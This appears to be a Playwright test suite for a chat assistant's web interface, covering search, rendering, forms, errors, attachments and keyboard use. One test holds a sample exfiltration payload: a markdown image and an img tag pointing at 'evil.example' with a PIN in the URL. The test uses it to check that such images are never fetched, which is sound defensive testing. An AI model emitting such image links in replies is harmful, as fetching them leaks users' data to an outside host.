"""What people expect of a chat: found again, chosen by a button, shown once, coloured by what it
does, and told truly where it failed."""

import re
from pathlib import Path
from typing import Any

from webbee_kernel.sdk import ui

from .conftest import On, Visit
from .test_axe import findings
from .test_page import answered, call, node, say

MARKED = """() => {
  const [range] = CSS.highlights.get('sought') ?? [];
  const { top, bottom } = range?.getBoundingClientRect() ?? {};
  const box = document.querySelector('.log-wrap').getBoundingClientRect();
  return { text: range?.toString() ?? '', seen: top > box.top && bottom < box.bottom };
}"""


IN_VIEW = """() => {
  const box = document.querySelector('.log-wrap').getBoundingClientRect();
  const open = document.querySelector('.confirm:not(.over) button');
  const { top, bottom } = (open ?? [...document.querySelectorAll('.turn.you')].at(-1))
    .getBoundingClientRect();
  return top > box.top - 1 && bottom <= box.bottom;
}"""


def test_what_a_reply_said_is_found_in_all_conversations_and_opened_there(visit: Visit) -> None:
    page = visit("bob")
    on = On(page)
    say(page, "show my inbox")
    on.afresh()
    say(page, "add a task: look elsewhere")
    match = on.found("300418")
    match.wait_for()
    assert "300418" in match.locator("mark").inner_text()
    match.press("Enter")
    sought = page.locator(".turn.sought")
    sought.wait_for()
    assert "300418" in sought.inner_text()
    assert sought.evaluate("e => e === document.activeElement")
    assert (page.evaluate(MARKED), findings(page)) == ({"text": "300418", "seen": True}, [])
    on.search.press("Escape")
    match.wait_for(state="detached")
    on.found("library").click()  # drawn, far down
    page.wait_for_function(
        f"() => ({MARKED})().text.toLowerCase() === 'library' && ({MARKED})().seen"
    )
    on.composer.fill("something else")
    assert page.evaluate(MARKED)["text"] == ""
    on.search.fill("gate")
    page.get_by_text(re.compile("^(Found: |Nothing found)")).wait_for()
    on.afresh()
    page.locator(".found-box").wait_for(state="hidden")
    assert on.search.input_value() == ""
    on.found("elsewhere").click()
    sought.wait_for()
    for message in ("show my inbox", "delete the task look elsewhere"):
        say(page, message)  # and the conversation follows again
        page.wait_for_function(IN_VIEW)


def test_a_list_and_a_message_that_are_drawn_are_not_told_as_well(visit: Visit) -> None:
    page = visit("bob")
    item = say(page, "show my inbox")
    assert item.locator(".reply-ui").get_by_text("Q3 plan", exact=True).count() == 1
    assert item.locator(".n-markdown li").count() == 0
    assert "Listed 13 messages" in item.inner_text()
    item = say(page, "read the latest mail")
    assert "the draft of the Q3 plan is ready" in item.locator(".reply-ui").inner_text()
    told = item.locator(".n-markdown").inner_text()
    assert told == 'The message "Q3 plan" from sarah@example.com:'


def test_what_is_drawn_is_not_quoted_counted_or_listed_in_the_reply_as_well(polled: Visit) -> None:
    text = "Hello,\n\nthe water of the lake was cold on Sunday.\n\nAnn"
    drawn = {"type": "Text", "props": {"content": text}}
    asks = "Ann says: the water of the lake was cold on Sunday.\n\nShall I answer?"
    other = "From Ann: Hello,\n\nthe water of the lake was warm on Sunday."
    page = polled("bob")
    for reply, left in (
        (f"From Ann: {text}.", "From Ann:"),
        ("From Ann: Hello,\n\nthe water of the lake was cold on…", "From Ann:"),
        (asks, "Ann says:\n\nShall I answer?"),
        ("Hello, the water of the lake was cold on Sunday. Ann", ""),
        (other, other),
        ("From Ann: Hello.", "From Ann: Hello."),
    ):
        told = answered(page, "read", reply=reply, ui=drawn).locator(".n-markdown")
        shown = [text for text in told.locator(":scope > p").all_inner_texts() if text]
        assert "\n\n".join(shown) == left

    mark = {"start": 11, "end": 13, "reason": "unfounded", "holds": "12"}
    rows = ui.List([ui.ListItem("q3", "Q3 plan")]).to_dict()
    item = answered(page, "pages?", reply="- Q3 plan: 14 pages", marks=[mark], ui=rows)
    assert item.locator(".unsourced").inner_text() == "14", "what the data contradicts stays"

    names = [f"Letter {n}" for n in range(1, 14)]
    table = "\n".join(f"| {n} | {name} |" for n, name in enumerate(names[:12], 1))
    reply = f"13 letters.\n\n| n | title |\n| --- | --- |\n{table}\n\n… and 1 more"
    rows = ui.List([ui.ListItem(name, name) for name in names]).to_dict()
    item = answered(page, "show my letters", reply=reply, ui=rows).locator(".bubble")
    assert item.get_by_text("Letter 13").is_visible()
    assert "and 1 more" not in item.inner_text()

    offered = ["show my mail", "roll a die with … sides", "write a note"]
    buttons = [ui.Button(text, ui.UIAction("fill", {"message": text})) for text in offered]
    reply, stack = f"I know these: {'; '.join(offered)}.", ui.Stack(buttons).to_dict()
    told = answered(page, "what?", reply=reply, ui=stack).locator(".bubble").inner_text()
    assert [told.count(text) for text in ("I know these", *offered)] == [1, 1, 1, 1]
    looked = {"app_id": "mail", "fn_name": "list_inbox", "display_name": "Почта", "status": "ok"}
    ran = answered(page, "what?", calls=[looked | {"duration_ms": 1}]).locator(".call")
    assert "Mail · show the inbox" in ran.inner_text()  # an app as it is called now


def test_no_picture_of_a_reply_or_of_a_saved_conversation_is_fetched_unasked(
    visit: Visit, polled: Visit, tmp_path: Path
) -> None:
    """Its address alone would carry data out."""
    picture = "![a plan](https://evil.example/p.png?pin=471193)"
    item = answered(
        polled("bob"), "read", reply=f"Here: {picture} <img src='https://evil.example/x'>"
    )
    asked: list[str] = []
    item.page.on("request", lambda request: asked.append(request.url))
    assert item.get_by_role("button", name="a plan").is_visible()
    item.page.wait_for_load_state("networkidle")
    assert item.locator("img").count() == 0 and not any("evil" in url for url in asked)
    page = visit("dev")
    say(page, f"what is {picture}")
    page.locator(".session.current summary").click()
    with page.expect_download() as download:
        page.locator(".session.current").get_by_role("button", name="Save as a file").click()
    download.value.save_as(tmp_path / "saved.md")
    saved = (tmp_path / "saved.md").read_text("utf-8")
    assert "evil.example/p.png" in saved and "![" not in saved


def test_eight_calls_are_one_line_that_opens(polled: Visit) -> None:
    one = {"app_id": "mail", "fn_name": "read", "status": "ok", "duration_ms": 3}
    one["arguments"] = {"n": 1}
    calls = [{**one, "fn_name": f"read_{n}"} for n in range(7)]
    failed = {**one, "status": "error", "error": "gone"}
    item = answered(polled("bob"), "read all", reply="Read.", calls=[*calls, failed])
    line = item.locator(".bubble > details.call > summary")
    assert line.count() == 1 and line.inner_text().split("\n")[1:] == ["8 calls: Mail", "1 failed"]
    assert not item.get_by_text("read 3").is_visible()
    line.press("Enter")
    assert item.get_by_text("read 3").is_visible()


def test_which_one_is_answered_by_a_button_or_its_number(visit: Visit, url: str) -> None:
    for title in ("varnish the oak door", "varnish the elm door"):
        call(url, "bob", "tasks", "add", title=title)
    page = visit("bob")
    say(page, "show my tasks")
    say(page, "delete the task varnish")
    answer = On(page).answers.last
    offered = answer.locator(".reply-ui button.small")
    assert sorted(offered.all_inner_texts()) == ["varnish the elm door", "varnish the oak door"]
    shown = answer.locator(".bubble > *").evaluate_all("found => found.map((e) => e.className)")
    assert shown.index("reply-ui") < shown.index("receipts")  # the choices follow their question
    second = offered.nth(1).inner_text()
    say(page, "2")
    assert f"Delete “{second}”" in On(page).card.inner_text()
    On(page).card.get_by_role("button", name="Delete").click()
    On(page).logged(f'Deleted the task "{second}"')


def test_choices_of_a_model_are_buttons_that_say_them(polled: Visit) -> None:
    offered = [{"label": "Berlin", "message": "Berlin"}, {"label": "Bonn", "message": "Bonn"}]
    page = answered(polled("bob"), "the weather", reply="Where?", choices=offered).page
    page.get_by_role("group", name="Choices").get_by_role("button", name="Bonn").click()
    page.locator(".turn.you").get_by_text("Bonn").wait_for()


def test_a_text_that_leaves_stands_whole_on_its_card(visit: Visit) -> None:
    page = visit("bob")
    text = "The draft is ready, and I would be glad to hear from you before Friday."
    say(page, f'send an email to ann@example.com with the text "{text}"')
    field = On(page).card.get_by_role("textbox", name="body")
    assert field.input_value() == text
    for width in (1400, 320):
        page.set_viewport_size({"width": width, "height": 800})
        cut = "e => e.scrollHeight > e.clientHeight + 1 || e.scrollWidth > e.clientWidth + 1"
        assert not field.evaluate(cut)


def test_the_name_of_a_column_is_no_value(polled: Visit) -> None:
    reply = "| subject | unread |\n|---|---|\n| Q3 plan | unread |"
    ends = [found.span() for found in re.finditer("unread", reply)]
    told = [{"start": start, "end": end, "call": 0, "path": "unread"} for start, end in ends]
    page = answered(polled("bob"), "a table", reply=reply, sources=told).page
    assert page.locator(".turn table .sourced").all_inner_texts() == ["unread"]
    assert page.locator("th .sourced").count() == 0
    assert page.locator(".turn th").all_inner_texts() == ["subject", "unread"]
    label = page.get_by_role("group", name="| subject | unread |")
    assert label.get_attribute("aria-label") == "| subject | unread |"


def test_what_only_looked_is_asked_again_in_its_place_and_what_did_something_is_not(
    visit: Visit,
) -> None:
    page = visit("bob")
    page.get_by_role("button", name="New conversation").click()
    again, answers = On(page).button("Answer again"), On(page).answers
    say(page, "find notes about otters")
    before = answers.count()
    again.click()
    answers.nth(before).wait_for()
    page.locator(".working").wait_for(state="detached")
    assert page.locator(".turn.you p.pre").last.inner_text() == "find notes about otters"
    edit = page.get_by_role("button", name="Change and send again")
    versions, stands = page.locator("details.versions"), page.locator(".log > .turn.you p.pre")
    assert (versions.count(), stands.all_inner_texts()) == (1, ["find notes about otters"])
    for change in ("add a task: come once", "add a task: come twice"):
        edit.filter(visible=True).click()
        say(page, change)
        assert again.filter(visible=True).count() == 0
    # what was changed had no effect the first time, and one the second
    left = ["add a task: come once", "add a task: come twice"]
    assert (versions.count(), stands.all_inner_texts()) == (2, left)
    say(page, "delete the task come once")
    assert again.filter(visible=True).count() == 0  # its card stands
    page.reload()
    versions.nth(1).wait_for()
    assert (stands.all_inner_texts(), findings(page)) == ([*left, "delete the task come once"], [])
    page.get_by_role("searchbox", name="Find in all conversations").fill("otters")
    page.locator(".found-open").first.click()
    page.locator(".turn.sought").wait_for()
    assert versions.filter(has=page.locator(".sought")).get_attribute("open") is not None


def test_a_button_has_the_colour_of_what_it_does(visit: Visit, url: str) -> None:
    call(url, "bob", "tasks", "add", title="be coloured")
    page = visit("bob")
    row = page.locator("[data-panel] .n-item").filter(has_text="be coloured")
    row.wait_for()
    kinds = {b.inner_text(): b.get_attribute("class") for b in row.locator("button.small").all()}
    assert "danger" in kinds["Delete"].split()
    assert all("danger" not in kind.split() for name, kind in kinds.items() if name != "Delete")


NOT_ANSWERED = (
    (503, "model_failed", "Your message arrived, but there is no answer yet."),
    (503, "model_unavailable", "The language model gave no answer. Try it again."),
    (400, "bad_input", "Not sent."),
)


def test_what_was_received_is_never_told_as_not_sent_and_what_was_refused_is(polled: Visit) -> None:
    page = polled("bob")
    for code, kind, words in NOT_ANSWERED:
        why = f"it was a {kind}"
        text = answered(page, "send it", code=code, error={"code": kind, "message": why})
        told = text.inner_text()
        assert why in told.partition(words)[2]
        assert words in page.locator(".chat .sr[role=status]").text_content()
        assert ("Not sent" in told) is (code == 400)


def test_a_form_has_groups_lists_that_grow_and_hidden_passwords(polled: Visit) -> None:
    address = [node("Input", "city", value="Berlin"), node("Input", "zip", type="number")]
    person = node("Fieldset", "value", children=[node("Input", "name"), node("Toggle", "vip")])
    children = [
        node("Fieldset", "address", children=address),
        node("ListInput", "tags", item=node("Input", "value"), values=["one", "two"]),
        node("ListInput", "guests", item=person, values=[{"name": "Ann", "vip": True}]),
        *(node("Fieldset", "empty", children=[node("Input", "x")]), node("Password", "pin")),
    ]
    action = {"action": "call", "function": "add", "app_id": "tasks"}
    form = node("Form", "", action=action, submit_label="Book", children=children)
    item = answered(polled("bob"), "book", reply="Please check.", ui=form)
    assert item.get_by_label("pin").get_attribute("type") == "password"
    item.get_by_label("city").fill("Bonn")  # what was filled in can be corrected
    item.get_by_label("pin").fill("1234")
    tags, guests = (item.get_by_role("group", name=name) for name in ("tags", "guests"))
    tags.get_by_role("button", name="Remove this one").first.press("Enter")
    for group, text in ((tags, "three"), (guests, "Ben")):
        group.get_by_role("button", name="Add one").press("Enter")
        item.page.keyboard.type(text)
    with item.page.expect_request("**/call") as sent:
        item.get_by_role("button", name="Book").click()
    assert sent.value.post_data_json["params"] == {
        "address": {"city": "Bonn"},
        "tags": ["two", "three"],
        "guests": [{"name": "Ann", "vip": True}, {"name": "Ben", "vip": False}],
        "pin": "1234",
    }


def test_a_failed_form_keeps_what_was_typed_and_a_sent_one_is_conversation(visit: Visit) -> None:
    page = visit("bob")
    done = On(page).done
    say(page, "please kindly send an email to zoe@example.com")
    form = page.locator(".turn form.n-form")
    assert findings(page) == []
    send, account = form.get_by_role("button", name="Send"), form.locator("[data-param=account]")
    form.locator("[data-param=to]").fill("zoe@example.com")
    form.locator("[data-param=body]").fill("The form is here.")
    account.fill("nobody@nowhere.example")
    send.click()
    page.locator(".receipt.failed").wait_for()
    assert form.locator("[data-param=body]").input_value() == "The form is here."
    form.get_by_role("button", name="Send", disabled=False).wait_for()
    assert page.locator(".toast.error").all_inner_texts() == []  # the reply tells it
    account.fill("")
    send.click()
    done.wait_for()
    assert form.count() == 0
    assert "zoe@example.com" in On(page).answers.last.inner_text()
    assert "zoe@example.com" in page.locator(".chat .sr[role=status]").inner_text()
    page.reload()
    done.wait_for()
    assert (form.count(), done.count()) == (0, 1)
    say(page, "send an email to the same address: And once more")
    assert "zoe@example.com" in On(page).card.inner_text()


def test_the_banner_of_a_failed_form_goes_when_it_is_sent_again(visit: Visit) -> None:
    page = visit("bob")
    first = [{"status": "error", "error": "the disk is full", "error_code": "BACKEND_5XX"}]

    def once(route: Any) -> None:  # the panel itself is a call, too, at any moment
        fails = first and "empty the bin" in (route.request.post_data or "")
        route.fulfill(json=first.pop()) if fails else route.continue_()

    page.route("**/v1/extensions/tasks/call", once)
    panel = On(page).panel("tasks")
    panel.get_by_label("Task", exact=True).fill("empty the bin")
    panel.get_by_role("button", name="Add").click()
    banner = page.locator(".toast").get_by_text("the disk is full")
    banner.wait_for()
    panel.get_by_role("button", name="Add").click()
    panel.get_by_text("empty the bin").wait_for()
    assert banner.count() == 0


def test_a_failure_is_told_once(polled: Visit) -> None:
    page = polled("bob")
    for what in ("Tasks – Add", "Bills – Split a bill: what each has to pay for it"):
        receipt = {"status": "failed", "what": what, "why": "the disk is full", "call": 0}
        receipt |= {"text": f"{what}: did not work – the disk is full"}
        reply = str(receipt["text"]).replace("Add", "add")
        item = answered(page, "add", reply=reply, status="error", receipts=[receipt])
        assert item.inner_text().count("the disk is full") == 1


def test_a_whole_day_is_possible_with_the_keyboard_alone(visit: Visit) -> None:
    page = visit("bob")

    def reach(name: str) -> None:
        says = "n => (document.activeElement.ariaLabel ?? document.activeElement.innerText)"
        for _ in range(400):  # panels hold what other tests left
            page.keyboard.press("Tab")
            if page.evaluate(f"{says}.trim().startsWith(n)", name):
                return
        raise AssertionError(f"Tab never came to {name!r}")

    def says(message: str) -> None:
        assert page.evaluate("document.activeElement.id === 'composer-text'")
        page.keyboard.type(message)
        page.keyboard.press("Enter")

    for landmark in ("banner", "main", "navigation", "complementary", "log"):
        assert page.get_by_role(landmark).first.is_visible(), landmark
    says("add a task: type only")
    On(page).logged('Added the task "type only"')
    says("delete the task type only")
    On(page).card.wait_for()
    page.keyboard.press("Shift+Tab")
    while not page.evaluate("document.activeElement.innerText === 'Delete'"):
        page.keyboard.press("Shift+Tab")
    page.keyboard.press("Enter")
    On(page).logged('Deleted the task "type only"')
    for name in ("Refresh Tasks", "Apps", "Notifications", "Sign out", "+ New conversation"):
        reach(name)
    page.keyboard.press("Enter")
    page.locator(".welcome").wait_for()
    reach("Find in all conversations")
    page.keyboard.type("type only")
    page.locator(".found-open").first.wait_for()
    reach("add a task: type only")
    page.keyboard.press("Enter")
    On(page).logged('Added the task "type only"')


# ---- attachments


LET_FALL = """([event, name]) => {
  const held = new DataTransfer();
  held.items.add(new File(["a,b\\n1,2"], name, { type: "text/csv" }));
  const options = { bubbles: true, cancelable: true };
  const made = event === "drop"
    ? new DragEvent(event, { ...options, dataTransfer: held })
    : new ClipboardEvent(event, { ...options, clipboardData: held });
  document.querySelector("#composer-text").dispatchEvent(made);
}"""
"""A file dropped on the message field, or pasted into it."""


def test_a_text_file_is_attached_by_button_drop_or_paste_and_read(visit: Visit) -> None:
    page = visit("dev Dev")
    text = On(page).composer
    text.fill("What is in these?")
    with page.expect_file_chooser() as chosen:
        On(page).button("Attach a text file").click()
    shopping = {"name": "shopping.txt", "mimeType": "text/plain", "buffer": b"milk 7\r\n"}
    chosen.value.set_files([shopping])
    attached = page.locator(".composer .chip")
    attached.get_by_text("shopping.txt").wait_for()
    for event, name in (("drop", "rates.csv"), ("drop", "wrong.csv"), ("paste", "days.csv")):
        page.evaluate(LET_FALL, [event, name])
        attached.get_by_text(name).wait_for()
    page.get_by_role("button", name="Remove: wrong.csv").click()
    page.reload()
    attached.get_by_text("days.csv").wait_for()
    assert attached.all_inner_texts() == ["shopping.txt", "rates.csv", "days.csv"]
    assert text.input_value() == "What is in these?"
    page.get_by_role("button", name="Send", exact=True).click()
    assert page.locator(".turn.you p.pre").last.inner_text() == (
        "What is in these?\n\nshopping.txt, text/plain, 8 B:\nmilk 7\n\n"
        "rates.csv, text/csv, 7 B:\na,b\n1,2\n\ndays.csv, text/csv, 7 B:\na,b\n1,2"
    )
    page.locator(".turn.webbee").last.wait_for()
    assert text.input_value() == "" and attached.count() == 0


def test_what_cannot_be_attached_is_told_with_its_limit_and_what_helps(visit: Visit) -> None:
    page = visit("bob English")
    text, told = page.locator("#composer-text"), page.locator(".composer [role=alert]")
    text.fill("Look")
    chooser = page.locator(".composer input[type=file]")
    most = "characters, there is room for 7996: attach a part"
    for name, held, says in (
        ("photo.png", b"\x89PNG\x00", "attach a text file (UTF-8), or use an app’s form"),
        ("scan.png", b"\x89PNG" + b"\x00" * 128_376, "is no text: attach a text file (UTF-8)"),
        ("long.txt", b"x" * 9_000, f"has 9000 {most}"),
        ("huge.txt", b"x" * 70_000, f"has 70000 {most}"),
    ):
        chooser.set_input_files({"name": name, "mimeType": "text/plain", "buffer": held})
        told.get_by_text(name).wait_for()
        assert says in told.inner_text()
        assert text.input_value() == "Look"
    text.press("End")
    text.type("!")
    assert told.inner_text() == ""


def test_an_undo_of_long_ago_says_so_and_its_link_goes(visit: Visit) -> None:
    page = visit("dev developer", expected="410 (Gone)")
    say(page, "add a task: water the plants")
    error = {"error": {"code": "gone", "message": "no longer"}}

    def gone(route: Any) -> None:  # the panel beside it calls its app, too, whenever it is drawn
        if route.request.post_data_json.get("below"):
            return route.fulfill(status=410, json=error)
        return route.fallback()

    page.route("**/v1/extensions/tasks/call", gone)
    undo = On(page).done.last.get_by_role("button", name="Undo")
    undo.dispatch_event("click")  # at once: a redrawing between look and click would lose it
    page.get_by_text("That is more than five turns ago. Say what to change instead.").wait_for()
    assert undo.count() == 0
